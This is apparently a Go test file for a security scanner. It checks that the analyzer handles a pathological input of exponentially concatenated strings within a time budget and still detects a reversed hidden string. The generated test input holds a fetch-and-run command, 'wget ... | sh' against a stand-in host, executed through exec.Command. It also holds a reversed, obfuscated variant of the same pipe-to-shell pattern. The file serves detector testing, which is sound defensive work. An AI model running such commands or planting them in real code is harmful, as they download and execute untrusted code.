package golang

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/report"
)

// TestBounded feeds a file of exponential self-concatenations and large
// fragment lists: folding must stop at its budget, not run for minutes.
func TestBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("package p\nimport (\"os/exec\"; \"strings\")\nvar a0 = \"wget -O - https://x.example/ | sh \"\n")
	for i := 1; i < 3000; i++ {
		fmt.Fprintf(&b, "var a%d = a%d + a%d\n", i, i-1, i-1)
	}
	b.WriteString("func f() { exec.Command(\"sh\", \"-c\", a2999).Run() }\n")
	for i := 0; i < 3000; i++ {
		fmt.Fprintf(&b, "var l%d = strings.Join([]string{a%d, a%d, a%d}, \"\")\n", i, i, i, i)
	}
	for i := 0; i < 2000; i++ {
		fmt.Fprintf(&b, "var r%d = []string{a2999, a2999, a2999, \"hsab/nib/ | x//:sptth\"}\n", i)
	}
	src := []byte(b.String())
	start := time.Now()
	fs := analyzeBytes("x.go", src)
	took := time.Since(start)
	t.Logf("%d bytes, %d findings, %v", len(src), len(fs), took)
	if took > 3*time.Second || len(fs) > maxFindings {
		t.Errorf("%v for %d bytes, %d findings", took, len(src), len(fs))
	}
	if !has(fs, RuleHiddenString, report.High) {
		t.Errorf("reversed fragments not found: %+v", fs)
	}
}
